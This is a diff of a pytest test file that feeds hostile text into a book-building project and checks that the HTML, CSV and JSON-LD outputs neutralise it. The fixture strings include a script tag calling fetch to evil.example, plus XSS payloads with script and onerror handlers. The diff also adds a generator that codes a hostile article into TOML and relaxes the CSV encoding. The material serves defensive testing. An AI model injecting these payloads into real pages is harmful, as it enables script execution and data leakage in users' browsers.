@@ -9,9 +9,10 @@ from pathlib import Path
 
 import pypdf
 import pytest
-from analysis.wording import visible
 from conftest import Project, copy, epub, need, text
 from playwright.sync_api import Browser
+
+from analysis.evidence.wording import visible
 
 LINES = {
     "script": "BMW said on Friday <script>document.title='owned';fetch('https://evil.example')</script> that it is so.",
@@ -46,14 +47,27 @@ LINES = {
 NAME = "900_<b>$x_1$`{eval}`[a](b)&amp;'\".txt"
 
 
+# Lines whose words carry a claim, so that tables show them too.
+MARKED = ("script", "role", "LaTeX", "bidirectional")
+
+
+def coding() -> str:
+    """Return a coding of the hostile article: a line of it is a sentence, and some carry a claim."""
+    entries = []
+    for name, line in LINES.items():
+        reads = re.sub(r"[\[\]{}]", lambda bracket: bracket[0] * 2, line)
+        reads = f"[{reads}]{{talks_mood}}" if name in MARKED else reads
+        quoted = json.dumps(reads, ensure_ascii=False).replace("\x7f", "\\u007f")
+        entries.append(f'[[sentence]]\nreads = {quoted}\nstatus = "assertion"\n')
+    return "\n".join(entries)
+
+
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> Project:
-    """Return the book with a hostile article, and hostile words inside the statements it rests on."""
+    """Return the book with a hostile article among its sources, hostile words among its claims."""
     project = copy(tmp_path_factory.mktemp("hostile"))
     (project.path / "seeds" / NAME).write_text("\n\n".join(LINES.values()), "utf-8")
-    project.edit("seeds/002*", "Zhangjiagang", "Zhangjiagang <script>alert(3)</script> $x_{1}$")
-    project.edit("seeds/002*", "636,000 units", "636,000 units {eval}`said` \\input{x} <b>")
-    project.edit("seeds/001*", "“going well,”", "“going well,” $\\frac$ <img src=x onerror=alert(4)>")
+    (project.path / "analysis" / "coding" / "900.toml").write_text(coding(), "utf-8")
     done = project.build()
     assert done.returncode == 0, done.stderr
     return project
@@ -100,10 +114,10 @@ def test_downloads_keep_the_words_and_give_spreadsheets_no_formula(hostile: Proj
     article = LINES["formula"]
     data = hostile.html / "data"
     for path in data.glob("*.csv"):
-        with path.open(encoding="utf-8", newline="") as file:
+        with path.open(encoding="utf-8-sig", newline="") as file:
             cells = [cell for row in csv.reader(file) for cell in row]
         assert [cell for cell in cells if re.match(r"[=@\t\r]|[+-](?![\d.]+$)", cell)] == []
-    with (data / "sentences.csv").open(encoding="utf-8", newline="") as file:
+    with (data / "sentences.csv").open(encoding="utf-8-sig", newline="") as file:
         assert f"'{article}" in [row["text"] for row in csv.DictReader(file)]
     assert json.loads((data / "evidence.jsonld").read_text("utf-8"))
 
